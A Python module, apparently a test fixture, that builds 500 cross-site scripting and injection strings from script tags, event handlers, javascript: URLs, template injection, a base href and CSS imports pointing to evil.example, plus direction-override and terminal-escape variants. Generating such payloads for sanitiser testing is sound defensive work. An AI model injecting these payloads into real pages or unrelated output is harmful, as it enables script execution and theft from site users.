"""Texts that would act if a page were careless: 500 of them, each another way into markup, handlers, addresses, styles,
direction or terminals."""

ACTS = ["window.ran=1", "alert(1)", "fetch('//evil.example/')", "top.ran=1", "self['ran']=1"]
VECTORS = [
    "<script>%s</script>", "<img src=x onerror=%s>", "<svg onload=%s>", "\"><script>%s</script>", "'><img src=x onerror=%s>",
    "</textarea><script>%s</script>", "</title><svg/onload=%s>", "<iframe srcdoc='<script>%s</script>'>", "javascript:%s",
    "<a href=javascript:%s>x</a>", "<body onload=%s>", "<details open ontoggle=%s>", "<video><source onerror=%s>",
    "<math><mtext><img src=x onerror=%s>", "<input autofocus onfocus=%s>", "<object data=javascript:%s>",
    "<embed src=javascript:%s>", "<base href=//evil.example/><script>%s</script>", "<meta http-equiv=refresh content=0;url=javascript:%s>",
    "<style>@import'//evil.example/';</style><!--%s-->", "<link rel=stylesheet href=//evil.example/%s>", "${%s}", "{{constructor.constructor('%s')()}}",
    "<x onclick=%s>click", "%%3Cscript%%3E%s%%3C/script%%3E",
]
ROUNDS = ["%s", "\u202e%s", "\x1b[31m%s\x1b[0m", "\u200b%s\ufeff"]


def payloads():
    """500 texts."""
    return [r % (v % a) for r in ROUNDS for v in VECTORS for a in ACTS]
